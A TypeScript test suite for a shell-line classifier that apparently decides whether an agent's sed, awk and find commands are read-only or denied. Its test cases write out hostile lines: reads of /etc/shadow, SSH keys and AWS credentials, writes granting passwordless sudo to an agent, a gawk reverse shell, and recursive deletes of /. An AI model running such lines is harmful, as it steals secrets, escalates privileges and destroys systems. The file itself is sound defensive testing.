// The small languages the classifier reads inside a shell line: sed scripts, awk programs and
// find expressions. Each row is a line and the exact facts it must give, so that a table entry, a
// regex or a branch that is lost shows up as a wrong fact.
import assert from 'node:assert/strict';
import { before, describe, it } from 'node:test';
import { classifyShellLine, initShellParser } from '../../tools/ssh/classify/index.ts';
import { decideShell } from '../fixtures/shipped-policy.ts';

before(() => initShellParser());

interface Expected {
  readOnly: boolean;
  blockers?: string[];
  writes?: string[];
  reads?: string[];
  secrets?: string[];
  code?: boolean;
}

function check(line: string, want: Expected): void {
  const facts = classifyShellLine(line);
  const got: Expected = { readOnly: facts.readOnly };
  if (want.blockers) got.blockers = facts.readOnlyBlockers;
  if (want.writes) got.writes = facts.writePaths;
  if (want.reads) got.reads = facts.readsPaths;
  if (want.secrets) got.secrets = facts.sensitiveReads;
  if (want.code !== undefined) got.code = facts.interpreterCode;
  assert.deepEqual(got, want, line);
  assert.equal(facts.hasError, false, line);
}

const SED_UNSAFE = 'sed script writes, reads files or runs commands';

describe('sed scripts', () => {
  const rows: Array<[string, Expected]> = [
    // editing the output only
    ["sed -n 1p /etc/hosts", { readOnly: true, blockers: [], reads: ['/etc/hosts'], writes: [] }],
    ["sed 's/a/b/g' /tmp/f", { readOnly: true, blockers: [], reads: ['/tmp/f'] }],
    ["sed 'y/ab/cd/' /tmp/f", { readOnly: true, blockers: [] }],
    ["sed '/x/I d' /tmp/f", { readOnly: true, blockers: [] }],
    ["sed '/x/M d' /tmp/f", { readOnly: true, blockers: [] }],
    ["sed '\\%usr%d' /tmp/f", { readOnly: true, blockers: [] }],
    ["sed '1~2d;$!N;5,+3p;0,/x/d' /tmp/f", { readOnly: true, blockers: [] }],
    ["sed -e 'a text with w and r' -e p /tmp/f", { readOnly: true, blockers: [] }],
    ["sed 'c changed' /tmp/f", { readOnly: true, blockers: [] }],
    ["sed ':a;N;ba' /tmp/f", { readOnly: true, blockers: [] }],
    ["sed '/x/q;/y/Q 3;b end;t;T;v' /tmp/f", { readOnly: true, blockers: [] }],
    ["sed '{=;d;D;g;G;h;H;l;n;N;p;P;x;z;F}' /tmp/f", { readOnly: true, blockers: [] }],
    ["sed 's/a\\/w/b/' /tmp/f", { readOnly: true, blockers: [] }],
    ["sed 's|/x|/y|' /tmp/f", { readOnly: true, blockers: [] }],
    ["sed --expression=p /tmp/f", { readOnly: true, blockers: [] }],
    ["sed -nE -l 5 p /tmp/f", { readOnly: true, blockers: [] }],
    // writing, reading and running
    ["sed 's/a/b/w /tmp/out' /tmp/f", { readOnly: false, blockers: [SED_UNSAFE, 'writes /tmp/out'], writes: ['/tmp/out'] }],
    ["sed 's/a/b/gw /tmp/out' /tmp/f", { readOnly: false, blockers: [SED_UNSAFE, 'writes /tmp/out'], writes: ['/tmp/out'] }],
    ["sed 's/a/b/e' /tmp/f", { readOnly: false, blockers: [SED_UNSAFE] }],
    ["sed 'y/a/b/;e id' /tmp/f", { readOnly: false, blockers: [SED_UNSAFE] }],
    ["sed '1w /tmp/out' /tmp/f", { readOnly: false, blockers: [SED_UNSAFE, 'writes /tmp/out'], writes: ['/tmp/out'] }],
    ["sed '1W /tmp/out' /tmp/f", { readOnly: false, blockers: [SED_UNSAFE, 'writes /tmp/out'], writes: ['/tmp/out'] }],
    ["sed '1r /etc/hosts' /tmp/f", { readOnly: false, blockers: [SED_UNSAFE] }],
    ["sed '1R /etc/hosts' /tmp/f", { readOnly: false, blockers: [SED_UNSAFE] }],
    ["sed -e p -e 'w /tmp/out' /tmp/f", { readOnly: false, blockers: [SED_UNSAFE, 'writes /tmp/out'], writes: ['/tmp/out'] }],
    ["sed --expression='e date' /tmp/f", { readOnly: false, blockers: [SED_UNSAFE] }],
    // scripts it cannot follow count as unsafe
    ["sed 'k' /tmp/f", { readOnly: false, blockers: [SED_UNSAFE] }],
    ["sed '/abc' /tmp/f", { readOnly: false, blockers: [SED_UNSAFE] }],
    ["sed 's/abc/' /tmp/f", { readOnly: false, blockers: [SED_UNSAFE] }],
    ["sed 's\\a\\b\\' /tmp/f", { readOnly: false, blockers: [SED_UNSAFE] }],
    ["sed 's' /tmp/f", { readOnly: false, blockers: [SED_UNSAFE] }],
    // scripts the line does not show
    ["sed -f /tmp/script.sed /tmp/f", { readOnly: false, blockers: ['sed runs a script the line does not show'] }],
    ["sed --file=/tmp/script.sed /tmp/f", { readOnly: false, blockers: ['sed runs a script the line does not show'] }],
    ['sed "$SCRIPT" /tmp/f', { readOnly: false, blockers: ['sed runs a script the line does not show'] }],
    ['sed', { readOnly: false, blockers: ['sed runs a script the line does not show'] }],
    // options
    ["sed -i 's/a/b/' /tmp/f", { readOnly: false, blockers: ['sed -i edits files', 'writes /tmp/f'], writes: ['/tmp/f'] }],
    ["sed --in-place=.bak -e 's/a/b/' /tmp/f /tmp/g", { readOnly: false, blockers: ['sed -i edits files', 'writes /tmp/f', 'writes /tmp/g'], writes: ['/tmp/f', '/tmp/g'] }],
    ["sed -ni.bak p /tmp/f", { readOnly: false, blockers: ['sed -i edits files', 'writes /tmp/f'], writes: ['/tmp/f'] }],
    ["sed --frobnicate p /tmp/f", { readOnly: false, blockers: ['sed --frobnicate is not a known option'] }],
  ];
  for (const [line, want] of rows) it(line, () => check(line, want));
});

describe('files a sed script reads and writes are facts', () => {
  const rows: Array<[string, Expected]> = [
    ["sed '1r /etc/shadow' /tmp/f", { readOnly: false, reads: ['/tmp/f', '/etc/shadow'], secrets: ['/etc/shadow'], writes: [] }],
    ["sed '$R /root/.ssh/id_rsa' /tmp/f", { readOnly: false, reads: ['/tmp/f', '/root/.ssh/id_rsa'], secrets: ['/root/.ssh/id_rsa'] }],
    ["sed -e '/x/r   /etc/hosts' -e p /tmp/f", { readOnly: false, reads: ['/tmp/f', '/etc/hosts'], secrets: [] }],
    ["sed '1w /etc/sudoers.d/x' /tmp/f", { readOnly: false, writes: ['/etc/sudoers.d/x'] }],
    ["sed 's/a/b/w /etc/cron.d/job' /tmp/f", { readOnly: false, writes: ['/etc/cron.d/job'] }],
    ["sed -n '/k/W /tmp/out' /tmp/f", { readOnly: false, writes: ['/tmp/out'] }],
    ["sed 's/a/b/;2r /etc/shadow\n3w /tmp/o' /tmp/f", { readOnly: false, reads: ['/tmp/f', '/etc/shadow'], writes: ['/tmp/o'] }],
    ["sed -i 's/a/b/w /tmp/log' /tmp/f", { readOnly: false, writes: ['/tmp/f', '/tmp/log'] }],
    ["sed 's/a/b/ew /tmp/e;x' /tmp/f", { readOnly: false, blockers: [SED_UNSAFE, 'writes /tmp/e;x'], writes: ['/tmp/e;x'] }],
    ["sed -n 'w /dev/stdout' /tmp/f", { readOnly: false, blockers: [SED_UNSAFE], writes: [] }],
    ["sed '1r /dev/stdin' /tmp/f", { readOnly: false, blockers: [SED_UNSAFE], reads: ['/tmp/f'] }],
    ["sed -n 'w /dev/stderr' /tmp/f", { readOnly: false, blockers: [SED_UNSAFE], writes: [] }],
    ['sed -n w /tmp/f', { readOnly: false, blockers: [SED_UNSAFE], writes: [] }],
    ["sed $'1r\\t/etc/shadow' /tmp/f", { readOnly: false, reads: ['/tmp/f', '/etc/shadow'], secrets: ['/etc/shadow'] }],
    // text of a, i, c ends at the end of its line; a label or branch at ; or the end of the line
    ["sed $'1a text\\nw /tmp/o' /tmp/f", { readOnly: false, writes: ['/tmp/o'] }],
    ["sed '/x/b;w /tmp/o' /tmp/f", { readOnly: false, writes: ['/tmp/o'] }],
    ["sed $':a\\nw /tmp/o' /tmp/f", { readOnly: false, writes: ['/tmp/o'] }],
    // a newline is no s delimiter
    ["sed $'s\\nx\\ny\\n' /tmp/f", { readOnly: false, blockers: [SED_UNSAFE] }],
  ];
  for (const [line, want] of rows) it(line, () => check(line, want));
});

const AWK_RUNS = 'awk program runs commands';

describe('awk programs', () => {
  const rows: Array<[string, Expected]> = [
    ["awk '{print $1}' /tmp/f", { readOnly: true, blockers: [], reads: ['/tmp/f'], code: false }],
    ["awk '{print ($1 > 2)}' /tmp/f", { readOnly: true, blockers: [] }],
    ["awk '{print \"system(x) > y | z\"}' /tmp/f", { readOnly: true, blockers: [], code: false }],
    ["awk '# system(\"id\")\n{print}' /tmp/f", { readOnly: true, blockers: [], code: false }],
    ["awk -v x=1 -F: '{print x}' /tmp/f", { readOnly: true, blockers: [] }],
    ["awk -e '{print}' /tmp/f", { readOnly: true, blockers: [], reads: ['/tmp/f'] }],
    ["gawk --source '{print}' /tmp/f", { readOnly: true, blockers: [], reads: ['/tmp/f'] }],
    ["mawk 'BEGIN{getline l < \"/etc/hosts\"}'", { readOnly: true, blockers: [], reads: ['/etc/hosts'] }],
    ["awk 'BEGIN{system(\"id\")}'", { readOnly: false, blockers: ['runs interpreter code', AWK_RUNS], code: true }],
    ["nawk '{print $1 | \"sort\"}' /tmp/f", { readOnly: false, blockers: ['runs interpreter code', AWK_RUNS], code: true }],
    ["awk 'BEGIN{\"date\" | getline d}'", { readOnly: false, blockers: ['runs interpreter code', AWK_RUNS], code: true }],
    ["awk '@load \"ext\"'", { readOnly: false, blockers: ['runs interpreter code', AWK_RUNS], code: true }],
    ["awk '@include \"lib.awk\"'", { readOnly: false, blockers: ['runs interpreter code', AWK_RUNS], code: true }],
    ["gawk 'BEGIN{print \"x\" |& \"cat\"}'", { readOnly: false, blockers: ['runs interpreter code', AWK_RUNS], code: true }],
    ["awk '{print > \"/tmp/o\"}' /tmp/f", { readOnly: false, blockers: ['awk program writes files', 'writes /tmp/o'], code: false }],
    ["awk '{printf \"%s\", $1 >> \"/tmp/o\"}' /tmp/f", { readOnly: false, blockers: ['awk program writes files', 'writes /tmp/o'] }],
    ["awk 'BEGIN{getline l < f}'", { readOnly: false, blockers: ['awk program reads a file named at run time'] }],
    ["awk 'BEGIN{getline l < \"/etc/shadow\"}'", { readOnly: false, blockers: ['reads /etc/shadow, which may hold secrets'], reads: ['/etc/shadow'], secrets: ['/etc/shadow'] }],
    ["awk -f prog.awk /tmp/f", { readOnly: false, blockers: ['awk runs a program the line does not show'] }],
    ["awk --file=prog.awk /tmp/f", { readOnly: false, blockers: ['awk runs a program the line does not show'] }],
    ["gawk -E prog.awk /tmp/f", { readOnly: false, blockers: ['awk runs a program the line does not show'] }],
    ["gawk -i inplace '{print}' /tmp/f", { readOnly: false, blockers: ['awk runs a program the line does not show'] }],
    ["gawk --include=lib '{print}' /tmp/f", { readOnly: false, blockers: ['awk runs a program the line does not show'] }],
    ['awk "$PROG" /tmp/f', { readOnly: false, blockers: ['awk runs a program the line does not show'] }],
    ['awk', { readOnly: false, blockers: ['awk runs a program the line does not show'] }],
    ["gawk --inplace '{print}' /tmp/f", { readOnly: false, blockers: ['awk edits files in place'] }],
  ];
  for (const [line, want] of rows) it(line, () => check(line, want));

  it('a literal command in system(), a pipe or a getline is classified as a command', () => {
    const names = (line: string) => classifyShellLine(line).names;
    assert.deepEqual(names("awk 'BEGIN{system(\"rm -rf /tmp/x\")}'"), ['awk', 'rm']);
    assert.deepEqual(names("awk 'BEGIN{system ( \"id\" )}'"), ['awk', 'id']);
    assert.deepEqual(names("awk '{print | \"mail root\"}' /tmp/f"), ['awk', 'mail']);
    assert.deepEqual(names("awk 'BEGIN{\"hostname\" | getline h; print h}'"), ['awk', 'hostname']);
    assert.deepEqual(names("awk 'BEGIN{system(cmd)}'"), ['awk']);
  });

  it('an /inet socket alone is not a reverse shell; with a command run it is', () => {
    assert.deepEqual(classifyShellLine("gawk 'BEGIN{s=\"/inet/tcp/0/h/80\"; print \"x\" > s}'").danger, []);
    assert.deepEqual(classifyShellLine("gawk 'BEGIN{s=\"/inet/tcp/0/h/80\"; while ((s |& getline c) > 0) system(c)}'").danger, ['reverse_shell']);
  });
});

describe('files an awk program writes are facts', () => {
  const rows: Array<[string, Expected]> = [
    ["awk '{print > \"/etc/cron.d/job\"}' /tmp/f", { readOnly: false, writes: ['/etc/cron.d/job'] }],
    ["awk '{print $0 >> \"/tmp/o\"}' /tmp/f", { readOnly: false, writes: ['/tmp/o'] }],
    ["awk '{printf(\"%s\", $1) > \"/tmp/a\"; print > \"/tmp/b\"}' /tmp/f", { readOnly: false, writes: ['/tmp/a', '/tmp/b'] }],
    ["awk '{print > out}' /tmp/f", { readOnly: false, writes: [] }],
  ];
  for (const [line, want] of rows) it(line, () => check(line, want));
});

describe('find expressions', () => {
  const rows: Array<[string, Expected]> = [
    ['find /var/log -name "*.gz" -mtime +7', { readOnly: true, blockers: [], writes: [] }],
    ['find /var/log -type f -printf "%p -delete\\n"', { readOnly: true, blockers: [], writes: [] }],
    ['find -L /srv -maxdepth 2 -name x', { readOnly: true, blockers: [] }],
    ['find /var/log -name "*.gz" -delete', { readOnly: false, blockers: ['find -delete changes files or runs commands'] }],
    ['find /tmp -fprint0 /tmp/list -fls /tmp/ls', { readOnly: false, blockers: ['find -fprint0 -fls changes files or runs commands', 'writes /tmp/list', 'writes /tmp/ls'], writes: ['/tmp/list', '/tmp/ls'] }],
    ['find /tmp -name x -exec ls {} \\;', { readOnly: false, blockers: ['find -exec changes files or runs commands'] }],
    ['find /tmp -name x -execdir ls {} +', { readOnly: false, blockers: ['find -execdir changes files or runs commands'] }],
    ['find /tmp -ok ls {} \\;', { readOnly: false, blockers: ['find -ok changes files or runs commands'] }],
    ['find /tmp -okdir ls {} \\;', { readOnly: false, blockers: ['find -okdir changes files or runs commands'] }],
  ];
  for (const [line, want] of rows) it(line, () => check(line, want));

  it('a test that takes a value does not make its value an action', () => {
    for (const test of ['-name', '-path', '-regex', '-newer', '-user', '-group', '-fstype', '-type', '-printf', '-samefile', '-lname', '-context']) {
      check(`find /tmp ${test} -delete`, { readOnly: true, blockers: [] });
    }
  });

  it('{} in an -exec command stands for the files find visits, named as -name says', () => {
    const secrets = (line: string) => classifyShellLine(line).sensitiveReads;
    assert.deepEqual(secrets('find / -name id_rsa -exec cat {} \\;'), ['/$?/id_rsa']);
    assert.deepEqual(secrets('find /etc -iname shadow -exec cat {} +'), ['/etc$?/shadow']);
    assert.deepEqual(secrets('find /srv -name "*.txt" -exec cat {} \\;'), []);
    assert.deepEqual(secrets('find ~/.ssh -exec cat {} \\;'), ['~/.ssh$?']);
    // ~ and ~bob are directories: their entries follow a slash, and "~$?" would read as another user's home
    assert.deepEqual(secrets('find ~ -name id_rsa -exec cat {} +'), ['~/$?id_rsa']);
    assert.deepEqual(secrets('find ~bob -exec cat {} +'), ['/home/bob/$?']);
    // trailing slashes name the same starting point; slashes inside the path are left to normalizing
    assert.deepEqual(secrets('find /etc/ -name shadow -exec cat {} +'), ['/etc$?/shadow']);
    assert.deepEqual(secrets('find ~/.ssh// -exec cat {} +'), ['~/.ssh$?']);
    assert.deepEqual(secrets('find ~/ -name id_rsa -exec cat {} +'), ['~/$?id_rsa']);
    assert.deepEqual(secrets('find /root//.ssh -exec cat {} +'), ['/root/.ssh$?']);
  });

  // find visits every starting point it is given, and "." when it is given none (GNU find), each
  // as the working directory resolves it: what -exec and -delete touch is what find visits.
  it('{} and -delete stand for every starting point, "." when none is given, resolved against the working directory', () => {
    const secrets = (line: string) => classifyShellLine(line).sensitiveReads;
    for (const line of [
      'cd ~/.ssh && find . -exec cat {} +',
      'cd ~/.ssh && find -exec cat {} +',
      'cd ~/.ssh && find -name "id_*" -exec cat {} \\;',
      'cd ~ && find .ssh -exec cat {} +',
      'cd /etc && find -name shadow -exec cat {} +',
      'cd /etc/ssh && find .. -name shadow -exec cat {} +',
      'find /tmp ~/.ssh -exec cat {} +',
      'find /tmp /etc -name shadow -exec cat {} +',
      'cd ~/.aws && find ./ -execdir cat {} +',
    ]) {
      assert.notDeepEqual(secrets(line), [], line);
      assert.equal(decideShell(classifyShellLine(line)).effect, 'deny', line);
    }
    for (const line of ['cd / && find -delete', 'cd /etc && find -delete', 'cd / && find -mindepth 1 -delete', 'find /tmp / -delete', 'cd / && find -exec rm -rf {} +']) {
      assert.ok(classifyShellLine(line).danger.includes('recursive_delete_root'), line);
    }
    // Narrowed, or under a directory nothing needs: as before.
    assert.deepEqual(classifyShellLine('cd /tmp/build && find -delete').danger, []);
    assert.deepEqual(classifyShellLine('cd / && find -name "*.tmp" -delete').danger, []);
    assert.deepEqual(secrets('cd /srv && find . -name "*.txt" -exec cat {} +'), []);
  });

  it('the command after -exec runs, up to ; or {} +', () => {
    const facts = classifyShellLine('find /tmp -name x -exec rm -f {} \\; -print');
    const rm = facts.commands.find((c) => c.name === 'rm');
    assert.deepEqual(rm && { args: rm.args, via: rm.via }, { args: ['-f', '{}'], via: ['find -exec'] });
    assert.deepEqual(classifyShellLine('find /tmp -exec echo + \\;').commands.map((c) => [c.name, c.args]), [['find', ['/tmp', '-exec', 'echo', '+', ';']], ['echo', ['+']]]);
  });

  it('-delete under a root the system needs is a recursive delete of it', () => {
    assert.deepEqual(classifyShellLine('find / -delete').danger, ['recursive_delete_root']);
    assert.deepEqual(classifyShellLine('find /etc -delete').danger, ['recursive_delete_root']);
    assert.deepEqual(classifyShellLine('find /tmp/build -delete').danger, []);
  });
});

describe('a secret a script reads is denied by the shipped policy', () => {
  for (const line of ["sed '1r /etc/shadow' /tmp/f", "sed -n '$R /root/.aws/credentials' /tmp/f"]) {
    it(line, () => assert.equal(decideShell(classifyShellLine(line)).effect, 'deny'));
  }
});

describe("find's tests that narrow what -delete removes", () => {
  const narrowing = ['-name', '-iname', '-path', '-ipath', '-wholename', '-iwholename', '-regex', '-iregex', '-lname', '-ilname',
    '-size', '-mtime', '-mmin', '-atime', '-amin', '-ctime', '-cmin', '-newer', '-anewer', '-cnewer', '-used',
    '-samefile', '-inum', '-links', '-perm', '-newermt', '-newerct', '-newerat', '-context'];
  it('each test with its value narrows a delete under /, and its value is not taken for an action', () => {
    for (const test of narrowing) {
      assert.deepEqual(classifyShellLine(`find / ${test} x -delete`).danger, [], test);
      check(`find /tmp ${test} -delete`, { readOnly: true, blockers: [] });
    }
  });
  it('-empty narrows and takes no value; -type, -user and the like take a value but do not narrow', () => {
    assert.deepEqual(classifyShellLine('find / -empty -delete').danger, []);
    for (const option of ['-type f', '-xtype l', '-user root', '-group wheel', '-uid 0', '-gid 0', '-fstype ext4', '-maxdepth 1', '-mindepth 1', '-regextype posix-extended']) {
      assert.deepEqual(classifyShellLine(`find / ${option} -delete`).danger, ['recursive_delete_root'], option);
    }
    for (const option of ['-xtype', '-uid', '-gid', '-maxdepth', '-mindepth', '-files0-from', '-regextype', '-fprint', '-fprint0', '-fls']) {
      assert.equal(classifyShellLine(`find /tmp ${option} -delete`).readOnly, !option.startsWith('-f') || option === '-files0-from', option);
    }
  });
  it('leading options -H -L -P -D and -O come before the starting points', () => {
    assert.deepEqual(classifyShellLine('find -P -D stat -O2 / -delete').danger, ['recursive_delete_root']);
    assert.deepEqual(classifyShellLine('find -H /etc -delete').danger, ['recursive_delete_root']);
  });
});

describe('secrets and system files reached through a script', () => {
  before(async () => initShellParser());

  it('a secret read or a sudoers write through a sed, awk or jq script is denied', () => {
    for (const line of [
      "sed 'r /etc/shadow' /dev/null",
      "sed -n '1R /root/.ssh/id_rsa' notes.txt",
      'jq -f ~/.aws/credentials data.json',
      "sed -n 'w /etc/sudoers' notes.txt",
      "sed 's/a/b/w /etc/sudoers.d/agent' notes.txt",
      'awk \'BEGIN { print "agent ALL=(ALL) NOPASSWD: ALL" > "/etc/sudoers.d/agent" }\'',
    ]) {
      assert.equal(decideShell(classifyShellLine(line)).effect, 'deny', line);
    }
  });
});
